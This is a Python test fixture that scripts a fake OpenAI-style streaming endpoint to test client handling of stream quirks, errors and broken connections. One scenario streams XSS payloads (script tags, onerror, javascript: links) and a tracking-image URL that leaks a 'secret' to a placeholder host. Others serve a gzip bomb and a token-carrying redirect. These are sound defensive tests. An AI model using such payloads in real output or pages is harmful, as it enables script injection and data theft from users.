"""What the scripted endpoint can play, each with one name that unit, adapter and browser tests share.

A scenario is a function of a `Call`. What is written goes out at once, byte for byte: the quirks are real servers' own.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import re
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tests.fake_endpoint import Asked

Headers = dict[str, str]
Scenario = Callable[["Call"], Awaitable[None]]

DEFAULT_MODELS: list[dict[str, Any]] = [
    {"id": "tiny-chat", "object": "model", "created": 0, "owned_by": "vllm", "root": "tiny-chat", "parent": None,
     "max_model_len": 32768},
    {"id": "tiny-adapter", "object": "model", "created": 0, "owned_by": "vllm", "root": "/lora", "parent": "tiny-chat"},
]  # fmt: skip
PAGE = (
    b"<!DOCTYPE html><html><head><title>Sign in</title><script>window.harmed = true</script></head>"
    b"<body><h1>Please sign in</h1></body></html>"
)
_REASONS = {200: "OK", 400: "Bad Request", 401: "Unauthorized", 404: "Not Found", 429: "Too Many Requests"}
SCENARIOS: dict[str, Scenario] = {}


class Call:
    """One request being answered. `number` counts the plays of its scenario since the last reset, from 1."""

    def __init__(self, asked: Asked, writer: asyncio.StreamWriter, headers: Headers) -> None:
        self.asked = asked
        self._headers = headers
        self.writer = writer
        self.number = 1
        self.reusable = True
        self._chunked = False
        self._gzip: Any = None

    @property
    def body(self) -> dict[str, Any]:
        return self.asked.body if isinstance(self.asked.body, dict) else {}

    @property
    def model(self) -> str:
        return str(self.body.get("model", ""))

    @property
    def said(self) -> str:
        users = [m["content"] for m in self.body.get("messages", []) if m.get("role") == "user"]
        return str(users[-1]) if users else ""

    async def raw(self, data: bytes) -> None:
        """Bytes as they are."""
        self.writer.write(data)
        await self.writer.drain()

    async def head(self, status: int, headers: Headers) -> None:
        every = headers | self._headers
        lines = [f"HTTP/1.1 {status} {_REASONS.get(status, 'Status')}", *(f"{k}: {v}" for k, v in every.items())]
        await self.raw(("\r\n".join(lines) + "\r\n\r\n").encode())

    async def answer(self, status: int, kind: str, data: bytes, headers: Headers | None = None) -> None:
        """A whole body at once."""
        await self.head(status, {"Content-Type": kind, "Content-Length": str(len(data))} | (headers or {}))
        await self.raw(data)

    async def json(self, status: int, value: Any, headers: Headers | None = None) -> None:
        await self.answer(status, "application/json", json.dumps(value).encode(), headers)

    async def start(self, kind: str = "text/event-stream", headers: Headers | None = None) -> None:
        """The head of a stream, in HTTP chunks."""
        self._chunked = True
        await self.head(200, {"Content-Type": kind, "Transfer-Encoding": "chunked"} | (headers or {}))

    async def start_gzip(self) -> None:
        await self.start(headers={"Content-Encoding": "gzip"})
        self._gzip = zlib.compressobj(wbits=31)

    async def bytes(self, data: bytes) -> None:
        """Part of a stream's body."""
        if self._gzip is not None:
            data = self._gzip.compress(data) + self._gzip.flush(zlib.Z_SYNC_FLUSH)
        await self.raw(f"{len(data):x}\r\n".encode() + data + b"\r\n" if self._chunked else data)

    async def data(self, value: Any) -> None:
        """One event of a stream."""
        self.asked.sent_at.append(time.time())
        await self.bytes(event(value))

    async def text(self, *pieces: str) -> None:
        for piece in pieces:
            await self.data(delta(self.model, content=piece))

    async def finish(
        self, reason: str = "stop", *, prompt: int = 8, completion: int | None = None, model: str = ""
    ) -> None:
        """The finish reason, the usage if it was asked for, [DONE], and the end of the body."""
        model = model or self.model
        # Not as `data`: it is no token, and the log says when those were sent.
        await self.bytes(event(delta(model, finish=reason)))
        if (self.body.get("stream_options") or {}).get("include_usage"):
            count = self.asked.sent if completion is None else completion
            usage = {"prompt_tokens": prompt, "completion_tokens": count, "total_tokens": prompt + count}
            await self.bytes(event(delta(model) | {"choices": [], "usage": usage}))
        await self.bytes(b"data: [DONE]\n\n")
        await self.end()

    async def end(self) -> None:
        await self.raw(b"0\r\n\r\n")

    async def cut(self) -> None:
        """Closes the connection, whatever was promised."""
        self.reusable = False
        if not self.writer.is_closing():
            self.writer.close()

    async def silence(self) -> None:
        """Nothing more: for as long as the client stays."""
        await asyncio.Event().wait()


def event(value: Any) -> bytes:
    return b"data: " + (value if isinstance(value, bytes) else json.dumps(value).encode()) + b"\n\n"


def delta(model: str, *, finish: str | None = None, **fields: Any) -> dict[str, Any]:
    choice = {"index": 0, "delta": fields, "logprobs": None, "finish_reason": finish}
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 0, "model": model, "choices": [choice]}


def completion(model: str, text: str | None, **fields: Any) -> dict[str, Any]:
    message = {"role": "assistant", "content": text} | fields
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 0,
        "model": model,
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 8, "completion_tokens": 3, "total_tokens": 11},
    }


def words(count: int) -> list[str]:
    """The text of `emit-…`: a paragraph break every 80 tokens, since real answers are Markdown."""
    return [*(f"w{i} " if i % 80 != 79 else f"w{i}\n\n" for i in range(count - 1)), "END"]


def error(message: str, kind: str, code: Any, **more: Any) -> dict[str, Any]:
    return {"error": {"message": message, "type": kind, "param": None, "code": code} | more}


async def play(name: str, call: Call, played: Counter[str]) -> None:
    """Plays a scenario by its name; an unknown one says so."""
    played[name] += 1
    call.number = played[name]
    if found := re.fullmatch(r"emit-(\d+)-(\d+)", name):
        await emit(call, int(found[1]), int(found[2]))
    elif name in SCENARIOS:
        await SCENARIOS[name](call)
    else:
        await call.json(400, error(f"there is no scenario {name}", "BadRequestError", 400))


async def emit(call: Call, rate: int, count: int) -> None:
    """`count` tokens at an exact rate a second; 0: as fast as the socket takes them."""
    frames = [event(delta(call.model, content=word)) for word in words(count)]
    chunks = [f"{len(frame):x}\r\n".encode() + frame + b"\r\n" for frame in frames]
    await call.start()
    start = time.perf_counter()
    for number, chunk in enumerate(chunks):
        if rate and (wait := start + number / rate - time.perf_counter()) > 0:
            await asyncio.sleep(wait)
        call.asked.sent_at.append(time.time())
        call.writer.write(chunk)
        if rate or number % 16 == 15:
            await call.writer.drain()
    await call.finish(completion=count)


def scenario(function: Scenario) -> Scenario:
    SCENARIOS[getattr(function, "__name__")] = function  # noqa: B009 - a Callable has no __name__ for the type checker
    return function


# Answers that are whole


@scenario
async def echo(call: Call) -> None:
    await call.start()
    await call.data(delta(call.model, role="assistant", content=""))
    await call.text("You said: ", *re.findall(r"\S+\s*", call.said))
    await call.finish()


@scenario
async def plain_text(call: Call) -> None:
    await call.start()
    await call.data(delta(call.model, role="assistant", content=None))
    await call.text("Hel", "lo", ", world")
    await call.finish()


@scenario
async def slow_stream(call: Call) -> None:
    await emit(call, 20, 100)


@scenario
async def slow_first_token(call: Call) -> None:
    await call.start()
    await call.bytes(b": still reading the prompt\n\n")
    await asyncio.sleep(3)
    await call.text("At ", "last.")
    await call.finish()


@scenario
async def silent(call: Call) -> None:
    """The head of a stream and then nothing, as in a long prefill."""
    await call.start()
    await call.silence()


@scenario
async def silent_before_head(call: Call) -> None:
    await call.silence()


@scenario
async def cut_at_limit(call: Call) -> None:
    """Ends at the limit at first; asked to continue, it does."""
    await call.start()
    if call.body["messages"][-1]["role"] == "assistant":
        await call.text(" and ", "this ", "is ", "the ", "rest.")
        await call.finish("stop")
    else:
        await call.text("This ", "is ", "the ", "beginning")
        await call.finish("length")


@scenario
async def prefill_refused(call: Call) -> None:
    """llama.cpp with a model that thinks first: no beginning of an answer by the chat route."""
    if "prompt" in call.body:
        await call.start()
        for piece in (" and ", "the ", "rest."):
            await call.data({"choices": [{"index": 0, "text": piece, "finish_reason": None}]})
        await call.data({"choices": [{"index": 0, "text": "", "finish_reason": "stop"}]})
        await call.end()
    else:
        said = "Assistant response prefill is incompatible with enable_thinking."
        await call.json(400, error(said, "invalid_request_error", 400))


@scenario
async def reasoning(call: Call) -> None:
    await call.start()
    for piece in ("The user ", "asks for the ", "capital of France."):
        await call.data(delta(call.model, reasoning=piece))
    await call.text("It is ", "Paris", ".")
    await call.finish()


@scenario
async def reasoning_content(call: Call) -> None:
    """Both names with the same text, as some gateways send it, and once as an object."""
    await call.start()
    await call.data(delta(call.model, reasoning="The ", reasoning_content="The "))
    await call.data(delta(call.model, reasoning_content={"text": "capital."}))
    await call.text("Paris.")
    await call.finish()


@scenario
async def think_tags(call: Call) -> None:
    await call.start()
    await call.text("<th", "ink>", "\nThe capital", " of France.", "</thi", "nk>\n\n", "It is Paris", ".")
    await call.finish()


@scenario
async def only_reasoning(call: Call) -> None:
    await call.start()
    await call.data(delta(call.model, reasoning="I think and think", content=None))
    await call.finish("length")


@scenario
async def empty_answer(call: Call) -> None:
    await call.start()
    await call.data(delta(call.model, role="assistant", content=""))
    await call.finish(completion=0)


@scenario
async def tool_call(call: Call) -> None:
    await call.start()
    function = {"name": "look", "arguments": "{}"}
    await call.data(delta(call.model, tool_calls=[{"index": 0, "id": "1", "type": "function", "function": function}]))
    await call.finish("tool_calls")


@scenario
async def markdown(call: Call) -> None:
    await call.start()
    await call.text(
        "# A title\n\n", "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n\n", "```python\n", "print('hi')\n", "```\n\n",
        "Inline $e^{i\\pi}+1=0$ and\n\n$$\\int_0^1 x\\,dx$$\n\n", "the end",
    )  # fmt: skip
    await call.finish()


@scenario
async def hostile_markdown(call: Call) -> None:
    await call.start()
    await call.text(
        "<script>window.harmed = true</script>\n\n",
        "<img src=x onerror='window.harmed = true'>\n\n",
        "<iframe src='javascript:parent.harmed = true'></iframe>\n\n",
        "[click](javascript:window.harmed=true) ",
        "![picture](https://pictures.example/track.png?q=secret)\n\n",
        "<svg onload='window.harmed = true'></svg>\n\n",
        "the end",
    )
    await call.finish()


# Ways to write a stream


@scenario
async def crlf_framing(call: Call) -> None:
    await call.start()
    payload = json.dumps(delta(call.model, content="Grüße 🌍"), ensure_ascii=False).encode()
    framed = b"\xef\xbb\xbf: hello\r\nevent: message\r\nid: 1\r\ndata:" + payload + b"\r\n\r\n"
    # One byte at a time: no character, line end or event is spared.
    for at in range(len(framed)):
        await call.bytes(framed[at : at + 1])
    await call.finish()


@scenario
async def gzip_stream(call: Call) -> None:
    await call.start_gzip()
    await call.text("packed ", "well")
    await call.finish()


@scenario
async def long_line(call: Call) -> None:
    await call.start()
    await call.text("x" * (8 * 2**20))
    await call.finish()


@scenario
async def endless_line(call: Call) -> None:
    await call.start()
    await call.bytes(b"data: ")
    for _ in range(40):
        await call.bytes(b"x" * 1_000_000)
    await call.silence()


@scenario
async def no_done(call: Call) -> None:
    """A finish reason and a clean end, without [DONE]."""
    await call.start()
    await call.text("whole")
    await call.data(delta(call.model, finish="stop"))
    await call.end()


@scenario
async def done_but_open(call: Call) -> None:
    """[DONE], and then the connection stays open."""
    await call.start()
    await call.text("whole")
    await call.data(delta(call.model, finish="stop"))
    await call.bytes(b"data: [DONE]\n\n")
    await call.silence()


@scenario
async def done_before_end(call: Call) -> None:
    """[DONE], and the end of the body a moment later."""
    await call.start()
    await call.text("whole")
    await call.data(delta(call.model, finish="stop"))
    await call.bytes(b"data: [DONE]\n\n")
    await asyncio.sleep(0.02)
    await call.end()


@scenario
async def comments_and_blanks(call: Call) -> None:
    await call.start()
    await call.bytes(b": PROCESSING\n\n\n\n")
    await call.text("heard")
    await call.bytes(b": ping\n\nevent: ping\ndata: ping\n\nretry: 10\n\n")
    await call.finish()


@scenario
async def odd_chunks(call: Call) -> None:
    """What real servers send besides text, none of which is an error."""
    await call.start()
    base = delta(call.model)
    odd: list[Any] = [
        base | {"choices": []},
        base | {"choices": None},
        base | {"choices": [{"index": 0, "delta": None, "finish_reason": None}]},
        base | {"choices": [{"index": 1, "delta": {"content": "not this"}}]},
        base | {"choices": [{"delta": {"content": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]}}]},
        base | {"choices": [{"index": 0, "text": "c"}], "usage": {"prompt_tokens": 1, "completion_tokens": 1}},
        base | {"choices": [{"index": 0, "delta": {"refusal": "d"}}]},
        base | {"choices": [], "usage": {"prompt_tokens": 5, "completion_tokens": 7}},
        None, 3, "text", [],
    ]  # fmt: skip
    for value in odd:
        await call.bytes(event(value))
    await call.data(delta(call.model, finish="a_new_reason"))
    await call.bytes(b"data: [DONE]\n\n")
    await call.end()


@scenario
async def renamed_model(call: Call) -> None:
    await call.start()
    await call.data(delta("another/model@main", content="hi"))
    counts = {"prompt_tokens": 8, "completion_tokens": 1}
    await call.data(delta("another/model@main", finish="stop") | {"usage": counts})
    await call.end()


# Bodies that are no stream


@scenario
async def whole_json(call: Call) -> None:
    """A completion at once, though a stream was asked for; blank lines first, as DeepSeek keeps a connection alive."""
    await call.start("application/json")
    await call.bytes(b"\n\n\n")
    await call.bytes(json.dumps(completion("tiny-chat", "All at once.", reasoning_content="Quick.")).encode())
    await call.end()


@scenario
async def lying_content_type(call: Call) -> None:
    """A stream that calls itself plain text."""
    await call.start("text/plain; charset=utf-8")
    await call.text("still ", "a stream")
    await call.finish()


@scenario
async def html_page(call: Call) -> None:
    await call.answer(200, "text/html; charset=utf-8", PAGE)


@scenario
async def not_sse(call: Call) -> None:
    await call.answer(200, "text/plain", b"hello, this is no model")


@scenario
async def unreadable_json(call: Call) -> None:
    await call.answer(200, "application/json", b'{"choices": [{"mess')


@scenario
async def foreign_json(call: Call) -> None:
    await call.json(200, {"ok": True})


@scenario
async def error_as_200(call: Call) -> None:
    await call.json(200, error("the model crashed", "InternalError", 500))


@scenario
async def empty_body(call: Call) -> None:
    await call.answer(200, "text/event-stream", b"")


# Refusals


@scenario
async def unauthorized(call: Call) -> None:
    """Echoes the key, as some servers do."""
    key = call.asked.headers.get("authorization", "")
    await call.json(401, error(f"Incorrect API key provided: {key}", "invalid_request_error", "invalid_api_key"))


@scenario
async def forbidden(call: Call) -> None:
    await call.json(403, {"detail": "your project may not use this model"})


@scenario
async def path_not_found(call: Call) -> None:
    await call.json(404, {"detail": "Not Found"})


@scenario
async def unknown_model(call: Call) -> None:
    await call.json(404, error(f"The model `{call.model}` does not exist.", "NotFoundError", 404, param="model"))


@scenario
async def bad_request(call: Call) -> None:
    await call.json(400, error("temperature must be in [0, 2]", "BadRequestError", 400))


@scenario
async def unprocessable(call: Call) -> None:
    detail = [{"type": "extra_forbidden", "loc": ["body", "frobnicate"], "msg": "Extra inputs are not permitted"}]
    await call.json(422, {"detail": detail})


@scenario
async def refuses_stream_options(call: Call) -> None:
    """Mistral's way: usage comes by itself, and asking for it is an error."""
    if "stream_options" in call.body:
        detail = [{"type": "extra_forbidden", "loc": ["body", "stream_options", "include_usage"],
                   "msg": "Extra inputs are not permitted", "input": True}]  # fmt: skip
        await call.json(422, {"object": "error", "message": {"detail": detail}, "type": "invalid_request_error"})
        return
    await call.start()
    await call.text("fine ", "without")
    last = delta(call.model, finish="stop") | {"usage": {"prompt_tokens": 4, "completion_tokens": 2}}
    await call.data(last)
    await call.bytes(b"data: [DONE]\n\n")
    await call.end()


@scenario
async def context_too_long(call: Call) -> None:
    message = (
        "This model's maximum context length is 2048 tokens. However, you requested 2300 tokens (2284 in the messages, "
        "16 in the completion). Please reduce the length of the messages or completion."
    )
    await call.json(400, error(message, "BadRequestError", 400))


@scenario
async def context_too_long_llama(call: Call) -> None:
    message = "the request exceeds the available context size, try increasing it"
    await call.json(400, error(message, "exceed_context_size_error", 400, n_prompt_tokens=2300, n_ctx=2048))


@scenario
async def rate_limited(call: Call) -> None:
    await call.json(429, error("slow down", "rate_limit_error", "rate_limited"))


@scenario
async def rate_limited_once(call: Call) -> None:
    if call.number % 2:
        await call.json(429, error("slow down", "rate_limit_error", "rate_limited"), {"Retry-After": "2"})
    else:
        await plain_text(call)


@scenario
async def rate_limited_shortly(call: Call) -> None:
    if call.number % 2:
        await call.json(429, error("slow down", "rate_limit_error", None), {"retry-after-ms": "20"})
    else:
        await plain_text(call)


@scenario
async def rate_limited_for_hours(call: Call) -> None:
    await call.json(429, error("come back tomorrow", "rate_limit_error", None), {"Retry-After": "7200"})


@scenario
async def loading_once(call: Call) -> None:
    if call.number % 3:
        await call.json(503, error("Loading model", "unavailable_error", 503))
    else:
        await plain_text(call)


@scenario
async def loading_for_ever(call: Call) -> None:
    await call.json(503, error("Loading model", "unavailable_error", 503))


@scenario
async def scaled_to_zero(call: Call) -> None:
    if call.number % 2:
        await call.answer(503, "text/plain", b"no healthy upstream", {"Retry-After": "0"})
    else:
        await plain_text(call)


@scenario
async def server_error(call: Call) -> None:
    await call.answer(500, "text/plain", b"Internal Server Error")


@scenario
async def bad_gateway(call: Call) -> None:
    await call.answer(502, "text/html", PAGE)


@scenario
async def unavailable(call: Call) -> None:
    await call.answer(503, "text/plain", b"Service Unavailable")


@scenario
async def huge_error(call: Call) -> None:
    """An error body without an end."""
    await call.head(500, {"Content-Type": "text/plain"})
    call.reusable = False
    while True:
        await call.raw(b"error " * 10_000)


@scenario
async def stalled_error(call: Call) -> None:
    await call.head(400, {"Content-Type": "application/json", "Content-Length": "500"})
    await call.raw(b'{"error": ')
    await call.silence()


@scenario
async def redirects_away(call: Call) -> None:
    await call.answer(307, "text/plain", b"", {"Location": f"http://elsewhere.invalid{call.asked.path}?token=abc"})


@scenario
async def redirects_here(call: Call) -> None:
    await call.answer(308, "text/plain", b"", {"Location": "/elsewhere"})


# Streams and connections that break


@scenario
async def error_in_stream(call: Call) -> None:
    await call.start()
    await call.text("This much ", "came")
    await call.data({"error": {"message": "CUDA out of memory", "type": "InternalServerError", "code": 500}})
    await call.bytes(b"data: [DONE]\n\n")
    await call.end()


@scenario
async def error_with_text(call: Call) -> None:
    """OpenRouter's way: the error and a choice in one object."""
    await call.start()
    await call.text("Half ")
    last = delta(call.model, content="way", finish="error")
    await call.data(last | {"error": {"code": 502, "message": "the provider went away"}})
    await call.end()


@scenario
async def broken_stream(call: Call) -> None:
    """The connection breaks in the middle of an HTTP chunk."""
    await call.start()
    await call.text("This much ", "came")
    await call.raw(b"ff\r\ndata: {")
    await call.cut()


@scenario
async def cut_off_stream(call: Call) -> None:
    """A clean end with neither a finish reason nor [DONE]."""
    await call.start()
    await call.text("This much ", "came")
    await call.end()


@scenario
async def broken_after_finish(call: Call) -> None:
    await call.start()
    await call.text("whole")
    await call.data(delta(call.model, finish="stop"))
    await call.cut()


@scenario
async def garbage_in_stream(call: Call) -> None:
    await call.start()
    await call.text("This much ", "came")
    await call.bytes(b'data: {"choices": [{"del\n\n')
    await call.finish()


@scenario
async def drops_once(call: Call) -> None:
    """A pooled connection's race: closed before a byte of the response."""
    if call.number % 2:
        await call.cut()
    else:
        await plain_text(call)


@scenario
async def drops_always(call: Call) -> None:
    await call.cut()


@scenario
async def drops_after_head(call: Call) -> None:
    await call.start()
    await call.cut()


# What the models route can answer


@scenario
async def gzip_bomb(call: Call) -> None:
    packed = gzip.compress(b" " * 50_000_000)
    await call.answer(500, "text/plain", packed, {"Content-Encoding": "gzip"})


@scenario
async def no_models(call: Call) -> None:
    await call.json(200, {"object": "list", "data": []})
